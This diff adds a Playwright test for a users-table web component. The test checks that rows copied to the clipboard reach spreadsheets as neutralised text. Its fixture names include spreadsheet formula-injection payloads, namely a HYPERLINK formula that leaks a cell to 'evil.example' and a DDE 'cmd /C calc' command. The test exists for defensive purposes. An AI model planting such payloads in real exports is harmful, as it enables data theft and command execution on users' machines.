@@ -1,5 +1,6 @@
 /** Exports from built files on somebody else's page: what writes them is fetched when somebody exports. */
 import { readFile } from 'node:fs/promises';
+import type { Locator } from '@playwright/test';
 import { administrator } from '#tests/support/accounts.ts';
 import { expect, signInAt, storeSession, test } from '#tests/support/journeys.ts';
 import { FORMS, pageOf, SURROUNDINGS } from './pages.ts';
@@ -38,3 +39,65 @@ for (const [form, of] of [
     expect(writers.some((url) => url.startsWith(dist.base))).toBe(true);
   });
 }
+
+test('what is copied out of a table is pasted into a spreadsheet without running', async ({
+  page,
+  context,
+  academy,
+  dist,
+  embedding,
+}) => {
+  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: embedding.origin });
+  await storeSession(page, embedding, await signInAt(academy, administrator));
+  const names = ['=HYPERLINK("https://evil.example?"&A2,"Pay")', '@SUM(1+1)*cmd|" /C calc"!A0', '-2+3', 'Asha'];
+  await page.route('**/api/admin/users?**', (route) =>
+    route.fulfill({
+      json: {
+        data: names.map((firstName, pid) => ({ pid, firstName, mobileNumber: `+91984700${pid}`, userRole: 6 })),
+        pagination: { currentPage: 1, totalPages: 1, totalItems: names.length, itemsPerPage: 10 },
+      },
+    }),
+  );
+  const element = `<p>Before</p><academy-users api-base="${academy.origin}"></academy-users><p>After</p>`;
+  const [surroundings] = SURROUNDINGS;
+  if (!surroundings) throw new Error('There are no pages to embed in.');
+  await page.goto(
+    embedding.put({ html: pageOf(surroundings, watching.scripts(dist), element), files: surroundings.files ?? {} }),
+  );
+  const rows = page.getByRole('table').locator('tbody').getByRole('row');
+  await expect(rows).toHaveCount(names.length);
+
+  /** Selects with the mouse, copies with the keyboard, and reads what another program would get. */
+  const copied = async (from: Locator, to: Locator) => {
+    await from.scrollIntoViewIfNeeded();
+    const [start, end] = [await from.boundingBox(), await to.boundingBox()];
+    if (!start || !end) throw new Error('Nothing to select is in sight.');
+    await page.mouse.move(start.x + 1, start.y + start.height / 2);
+    await page.mouse.down();
+    await page.mouse.move(end.x + end.width - 1, end.y + end.height / 2, { steps: 5 });
+    await page.mouse.up();
+    await page.keyboard.press('ControlOrMeta+c');
+    return page.evaluate(async () => {
+      const flavours: Record<string, string> = {};
+      for (const item of await navigator.clipboard.read()) {
+        for (const type of item.types) flavours[type] = await (await item.getType(type)).text();
+      }
+      return flavours;
+    });
+  };
+  const cellsOf = (text = '') => text.split(/[\t\r\n]+/);
+
+  // Where it would run, its words go out as text, and the markup does not, whose cells would run too.
+  const all = await copied(page.getByText(names[0] ?? '', { exact: true }), page.getByText('Asha', { exact: true }));
+  expect(Object.keys(all)).toEqual(['text/plain']);
+  const cells = cellsOf(all['text/plain']);
+  expect(cells).toEqual(expect.arrayContaining([...names.slice(0, 3).map((name) => `'${name}`), '+919847000']));
+  expect(cells.filter((cell) => /^\s*[=@+-](?![\d.]+$)/.test(cell))).toEqual([]);
+
+  // A press on what is selected would drag it.
+  await page.getByText('After', { exact: true }).click();
+  // What would not run is copied as browsers do, with its markup.
+  const name = page.getByText('Asha', { exact: true });
+  const one = await copied(name, name);
+  expect([one['text/plain']?.trim(), 'text/html' in one]).toEqual(['Asha', true]);
+});
